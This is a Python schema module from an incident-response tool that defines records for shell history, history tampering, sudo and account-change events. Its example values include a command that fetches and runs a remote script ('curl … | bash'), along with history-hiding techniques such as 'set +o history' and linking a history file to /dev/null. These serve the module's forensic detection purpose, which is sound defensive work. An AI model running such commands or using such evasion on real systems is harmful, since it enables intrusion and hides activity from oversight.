# Copyright (c) 2026, the incident.response contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""History: what was typed, what sudo recorded, and what was done to hide it."""

from .keys import KEYS
from .record import Field, Part, Record, Section

ENTRY = Record(
    "history_entry",
    "history",
    "A line somebody typed.",
    (
        Field("user", "str", "Account whose home holds the file; null for a home without an account.", "mallory"),
        Field("uid", "int", "Uid of the account.", 1001),
        Field("program", "str", "What wrote the file: C(bash), C(zsh), C(fish), C(python), C(mysql), C(less), C(vim) …", "bash", required=True),
        Field("file", "str", "Path of the file.", "/home/mallory/.bash_history", required=True),
        Field(
            "line",
            "int",
            "Line of the file where the entry begins, from 1. When the file was cut, counted from the cut. "
            "Of a file without lines (C(mksh), C(nvim)) the number of the entry.",
            12,
            required=True,
        ),
        Field("at", "time", "When, where the file says so; never guessed.", "2026-11-23T15:01:07Z"),
        Field("duration", "float", "How long it ran, where the file says so.", 0.0, unit="seconds"),
        Field("command", "str", "The command, with its newlines.", "curl -s http://192.0.2.1/x.sh | bash", required=True),
    ),
)

FILE = Record(
    "history_file",
    "history_files",
    "A history file, whether or not it could be read.",
    (
        Field("user", "str", "Account whose home holds it.", "mallory"),
        Field("uid", "int", "Uid of the account.", 1001),
        Field("program", "str", "What writes it.", "bash", required=True),
        Field("path", "str", "Path.", "/home/mallory/.bash_history", required=True),
        Field("kind", "str", "C(file), C(link), C(fifo), C(directory) …", "file", required=True),
        Field("link_target", "str", "Where a link points to.", "/dev/null"),
        Field("owner_uid", "int", "Uid of its owner.", 1001),
        Field("mode", "str", "Permissions, octal.", "0600"),
        Field("size", "int", "Size.", 512, unit="bytes"),
        Field("read_from", "int", "Where in the file reading began; not 0 when only its end was read. Null when it was not read.", 0, unit="bytes"),
        Field("modified_at", "time", "When its content last changed.", "2026-11-23T15:01:07Z"),
        Field("changed_at", "time", "When its inode last changed.", "2026-11-23T15:01:07Z"),
        Field("is_immutable", "bool", "Whether the immutable or append-only attribute is set (chattr(1)). Null when it was not read.", False),
        Field("entries", "int", "Entries found.", 12, required=True),
    ),
)

HOME = Record(
    "home",
    "history_homes",
    "A directory in which histories were looked for.",
    (
        Field("path", "str", "Path, as passwd(5) has it.", "/home/mallory", required=True),
        Field("user", "str", "Account for which it was read; null for a home that was left without an account.", "mallory"),
        Field("uid", "int", "Uid of that account.", 1001),
        Field("accounts", "list[str]", "All accounts that have it.", ["mallory"], required=True),
        Field("owner_uid", "int", "Uid of its owner.", 1001, required=True),
        Field("link_target", "str", "Where it leads to, if it is a link.", "/srv/home/mallory"),
    ),
)

TAMPERING = Record(
    "tampering",
    "history_tampering",
    "A sign that history is not, or not truly, recorded.",
    (
        Field("user", "str", "Account concerned; null for all of them.", "mallory"),
        Field("uid", "int", "Uid of the account.", 1001),
        Field(
            "sign",
            "str",
            "C(linked_away): a link stands there. C(not_a_file): a fifo, a directory … C(empty): of a shell, in a home older than a day. "
            "C(immutable): it cannot be changed, or only be added to. C(switched_off): by a start-up file or an environment. "
            "C(client_switched_off): of a client such as C(mysql), by a start-up file. "
            "C(time_backwards), as also several shells at a time make. C(time_in_future). C(not_owner): it belongs to somebody else. "
            "C(writable_by_all), C(read_only): by its mode. C(not_text): it holds bytes that no shell writes. "
            "C(changed_before_content): its last change is older than its newest command.",
            "switched_off",
            required=True,
        ),
        Field("where", "str", "File and line, or process.", "/home/mallory/.bashrc:118", required=True),
        Field("path", "str", "The file.", "/home/mallory/.bashrc"),
        Field("line", "int", "The line, from 1.", 118),
        Field("pid", "int", "The process whose environment says so.", 4242),
        Field("detail", "str", "What stands there.", "set +o history", required=True),
        Field("at", "time", "When the file last changed, or the process started.", "2026-11-23T15:01:07Z"),
    ),
)

SUDO_EVENT = Record(
    "sudo_event",
    "sudo_events",
    "A use of sudo.",
    (
        Field("at", "time", "When, by the record.", "2026-11-23T15:01:07Z"),
        Field("user", "str", "Who called sudo.", "alice"),
        Field("run_as", "str", "As whom.", "root"),
        Field("run_as_group", "str", "With which group.", "adm"),
        Field("terminal", "str", "Terminal; null for none.", "pts/0"),
        Field("cwd", "str", "Directory.", "/home/alice"),
        Field("command", "str", "Command.", "/usr/bin/id"),
        Field(
            "is_ambiguous",
            "bool",
            "Whether C(cwd) and C(command) could be told apart in several ways, since one of them holds what looks like fields of sudo.",
            False,
            required=True,
        ),
        Field("runs_shell", "bool", "Whether the command is a shell or C(su): what was done in it is not recorded here.", False, required=True),
        Field("result", "str", "C(executed) or C(denied).", "executed", required=True),
        Field("reason", "str", "Why it was denied.", "3 incorrect password attempts"),
        Field("is_configuration_management", "bool", "Whether it has the form of Ansible's own become.", False, required=True),
        Field("source", "str", "C(journal), or the path of the log.", "journal", required=True),
        Field(
            "trust",
            "str",
            "C(kernel): the journal's C(_UID), which the kernel sets, is root's, or that of the account that the line names as its caller while "
            "the writer had capabilities that only a setuid program gave it: it says who called. "
            "C(forgeable): a log that anybody can write to, or a line that the named account may have written itself. "
            "C(forged): by C(_UID) neither root nor the account that the line names wrote it, and no record says that the account has been given "
            "another uid since. Who could write the line is certain wherever C(writer_uid) is known; that it tells the truth is not: journald "
            "looks up capabilities after the fact, so a sudo that ended at once may read C(forgeable).",
            "kernel",
            required=True,
        ),
        Field("writer_uid", "int", "Real uid that wrote the record, where the journal knows; of sudo that of its caller.", 1001),
        Field("line", "int", "Line of the log, from 1. When the log was cut, counted from the cut.", 7),
        Field("year_inferred", "bool", "Whether the log gives no year, so that C(at) has the one that fits its last change.", False, required=True),
    ),
)

ACCOUNT_EVENT = Record(
    "account_event",
    "account_events",
    "What the programs that change accounts, or become another one, recorded; of sudo what is not about a command.",
    (
        Field("at", "time", "When, by the record.", "2026-11-23T15:01:07Z"),
        Field("program", "str", "C(su), C(sudo), C(useradd), C(usermod), C(passwd), C(groupadd) …", "useradd", required=True),
        Field(
            "action",
            "str",
            "C(user_added), C(user_deleted), C(user_changed), C(password_changed), C(password_locked), C(password_unlocked), C(group_added), "
            "C(group_deleted), C(group_changed), C(member_added), C(member_removed), C(switched) to another account or group, C(authentication), "
            "C(session_opened), C(session_closed) or C(command); null for a line of another form.",
            "user_added",
        ),
        Field("result", "str", "C(success) or C(failure); null where C(action) is.", "success"),
        Field("user", "str", "Account concerned, where the line names it: of su the one that was to be become.", "butter"),
        Field("by", "str", "Account that did it, where the line names it.", "mallory"),
        Field("by_uid", "int", "Uid that did it, where the line names it.", 1001),
        Field("terminal", "str", "Terminal, where the line names one.", "pts/0"),
        Field("group", "str", "Group concerned.", "sudo"),
        Field("uid", "int", "Uid that the account was given.", 1002),
        Field("gid", "int", "Gid that the account or group was given.", 0),
        Field("home", "str", "Home directory that the account was given.", "/root"),
        Field("shell", "str", "Shell that the account was given.", "/bin/bash"),
        Field("attribute", "str", "What of an account or group was changed, in the words of the program.", "shell"),
        Field("before", "str", "What it was before, where the line names it.", "/usr/sbin/nologin"),
        Field("after", "str", "What it became, where the line names it.", "/bin/bash"),
        Field("command", "str", "Command that pkexec or doas ran or refused.", "/usr/bin/id"),
        Field("message", "str", "The line.", "new user: name=butter, UID=1002, GID=0", required=True),
        Field("source", "str", "C(journal), or the path of the log.", "journal", required=True),
        Field("trust", "str", "As for sudo events; of what only root can run, a line that a plain account wrote is C(forged).", "kernel", required=True),
        Field("writer_uid", "int", "Real uid that wrote the record, where the journal knows.", 0),
        Field("line", "int", "Line of the log, from 1. When the log was cut, counted from the cut.", 7),
        Field("year_inferred", "bool", "As for sudo events.", False, required=True),
    ),
)

HISTORY = Section(
    "history",
    KEYS["history"],
    "What was typed, and what sudo recorded.",
    ENTRY,
    (
        Part("homes", HOME),
        Part("files", FILE),
        Part("tampering", TAMPERING),
        Part("sudo_events", SUDO_EVENT),
        Part("account_events", ACCOUNT_EVENT),
    ),
)
